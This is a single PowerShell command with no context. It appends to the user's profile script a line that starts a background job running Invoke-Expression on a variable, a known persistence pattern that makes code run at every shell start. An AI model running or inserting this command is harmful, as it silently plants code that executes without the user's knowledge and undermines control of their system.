Add-Content $PROFILE 'Start-Job { iex $x }'
